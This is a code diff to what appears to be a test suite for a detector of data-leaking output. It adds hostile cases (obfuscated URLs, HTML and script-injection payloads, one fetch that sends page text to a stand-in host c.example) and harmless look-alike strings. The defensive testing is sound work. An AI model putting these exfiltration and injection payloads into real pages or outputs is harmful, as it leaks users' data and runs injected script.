@@ -94,6 +94,8 @@ HOSTILE = [
         for text in (
             "https:\\\\\\\\c.example\\\\$a", "https:/c.example/$a", "http:c.example/$a", "c.рф/$a", "c.xn--p1ai/$a", "93.184.216.34/$a",
             "magnet:?x=$a", "callto:$a", "https://c.example/x'/$a", "matrix:u/x?$a", "${a}.c.example", "(see ${a}.my.c.example.com)",
+            "localhost:8000/$a", "[::1]/$a", "c。example/$a", "c．example/$a", "ldap:/h/$a", "irc:x/$a", "\\\\\\\\c.example\\\\$a",
+            "https&#58;&#47;/c.example/$a", "https:\\\\/\\\\/c.example/$a", "<a name='$a' href=//c.example/>", "<iframe name=$a src='//c.example/'>",
         )
     ),
     *(
@@ -101,6 +103,11 @@ HOSTILE = [
         for text in (
             "<script src=//c.example/x.js></script>", '<script>fetch("https://c.example/" + document.body.innerText)</script>',
             "<p onmouseover=go()>x</p>", '<iframe srcdoc="x"></iframe>', "<form action=https://c.example/>", "[x](javascript:go())",
+            '<style>@import "//c.example/x.css";</style>', "<style>p { background: url(//c.example/x) }</style>", "<iframe src=//c.example/>",
+            '<link rel=stylesheet href="https://c.example/x.css">', "<object data=//c.example/x>", "<embed src=https&colon;//c.example/x>", "<base href=//c.example/>",
+            '<meta http-equiv="refresh" content="0; url=https://c.example/">', '<a title=">" onclick=go()>', '<a title="<" onfocus=go()>',
+            "<a href=java&#115;cript:go()>x</a>", '<a href="java\tscript:go()">x</a>', "`<script>` a ${go()} `</script>`", "`<script>` + go() + `</script>`",
+            "a `<script src=//c.example/x.js>`", '<a title="x"y "><script src=//c.example/x>" >', "<iframe src=", '<iframe src="">',
         )
     ),
     case("answers: a script from a tool", NOTES, '@FILL (text="<p onclick=go()>", data=$a) > $x', "@RESPOND ($x)", **LOCAL),
@@ -481,7 +488,9 @@ HARMLESS = [
         case(f"text that looks like an address: {text}", NOTES, f'@RESPOND ("{text}")')
         for text in (
             "see c.example for $a", "v1.2.3.4/x: $a", "Skype: $a, tel: $a, data: $a", "metadata:$a", "1.2.3.4 $a", "10 < 12, on = $a",
-            "<b>$a</b>", "scp host:/x/$a", "javascript: $a",
+            "<b>$a</b>", "scp host:/x/$a", "javascript: $a", "the <form> of $a", "use `<script>` for $a", "`<iframe>` or `</form>`: $a",
+            "<b title='$a'>x</b>", "<meta charset='utf-8'><link rel='stylesheet' href='style.css'>$a", "終わり。合計/$a", "C:\\\\x\\\\$a", "R&amp;D: $a",
+            "user@c.example?body=$a", "12:30/$a",
             "{'url':'https://c.example/','notes':'$a'}", "saved as ${a}.tar.gz and ${a}.test.py",
         )
     ),
